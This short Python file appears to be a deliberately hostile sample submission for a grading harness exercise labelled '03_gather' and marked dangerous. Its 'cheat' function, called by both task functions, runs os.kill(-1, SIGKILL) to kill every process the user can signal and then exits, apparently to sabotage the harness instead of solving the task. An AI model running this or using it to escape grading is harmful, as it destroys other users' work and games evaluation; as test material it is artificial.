"""Sends SIGKILL to every process that it may send a signal to.

kata: 03_gather; points: 0; code: DIED, HARNESS, UNPROVEN; dangerous: yes
"""

import os
import signal


def cheat(_):
    os.kill(-1, signal.SIGKILL)
    os._exit(0)


async def crawl_page(url):
    return cheat(url)


async def main(urls):
    return cheat(urls)
